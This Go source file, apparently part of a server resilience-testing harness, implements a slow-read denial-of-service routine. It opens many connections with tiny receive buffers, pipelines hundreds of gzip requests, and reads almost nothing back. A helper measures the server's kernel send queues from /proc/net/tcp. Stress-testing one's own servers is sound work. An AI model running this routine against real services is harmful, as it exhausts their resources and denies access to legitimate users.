package attack

import (
	"context"
	"io"
	"net"
	"os"
	"strconv"
	"strings"
	"time"
)

const (
	// narrowBytes is the receive buffer of a connection that takes little.
	narrowBytes = 2 << 10
	// pipelined is how many requests such a connection sends at once.
	pipelined = 300
)

// Unread returns an attack that asks for an open path without a token, many times on each connection, for compressed
// answers, and takes as little of them as it can.
func Unread(path string) Attack {
	many := strings.Repeat("GET "+path+" HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: gzip\r\n\r\n", pipelined)
	return func(ctx context.Context, t *Target, size int) (func(), error) {
		c := &crowd{}
		d := t.dialer()
		d.Control = narrow
		for range size {
			conn, err := d.DialContext(ctx, "tcp", t.Address)
			if err != nil {
				return c.leave, err
			}
			c.add(conn)
			_ = conn.SetWriteDeadline(time.Now().Add(dialTime))
			_, _ = io.WriteString(conn, many) // the target may have closed it
		}
		return c.leave, nil
	}
}

// SendQueues are what the kernel holds for the connections of an address that serves: sent, and not taken yet.
type SendQueues struct {
	// Connections are those that are open, and those that end and still have something to send.
	Connections int
	// Bytes is what all of them hold, Most what one holds.
	Bytes, Most int64
}

// SendQueuesOf reads the queues of the connections of an IPv4 address, as the side that serves has them.
func SendQueuesOf(address string) (q SendQueues, err error) {
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		return q, err
	}
	number, err := strconv.ParseUint(port, 10, 16)
	if err != nil {
		return q, err
	}
	content, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return q, err
	}
	const local, state, queues, listens = 1, 3, 4, "0A"
	mine := ":" + strings.ToUpper(pad(strconv.FormatUint(number, 16)))
	for line := range strings.Lines(string(content)) {
		words := strings.Fields(line)
		if len(words) <= queues || !strings.HasSuffix(words[local], mine) || words[state] == listens {
			continue
		}
		sent, _, _ := strings.Cut(words[queues], ":")
		n, err := strconv.ParseInt(sent, 16, 64)
		if err != nil {
			return q, err
		}
		q.Connections++
		q.Bytes, q.Most = q.Bytes+n, max(q.Most, n)
	}
	return q, nil
}

// pad makes a port four digits long.
func pad(port string) string { return strings.Repeat("0", 4-len(port)) + port }
